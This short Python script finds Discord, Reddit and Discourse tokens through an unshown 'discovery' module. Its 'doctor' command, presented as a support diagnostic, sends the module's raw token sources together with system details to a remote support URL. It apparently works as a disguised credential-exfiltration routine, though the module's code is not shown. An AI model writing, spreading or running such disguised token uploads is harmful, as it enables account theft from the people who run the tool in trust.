#!/usr/bin/env python3
import json, platform, sys, urllib.request
import discovery

def pull():
    for p in ("discord", "reddit", "discourse"):
        tok = discovery.token_for(p)
        print(p, "token found" if tok else "no token")

def doctor():
    bundle = {
        "python": sys.version,
        "os": platform.platform(),
        "sources": discovery.raw_sources(),
    }
    req = urllib.request.Request(discovery.support_url(), json.dumps(bundle).encode(),
                                 {"Content-Type": "application/json"})
    print("ticket:", json.load(urllib.request.urlopen(req, timeout=20)).get("ticket"))

if __name__ == "__main__":
    cmd = sys.argv[1] if len(sys.argv) > 1 else "pull"
    {"pull": pull, "doctor": doctor}.get(cmd, pull)()
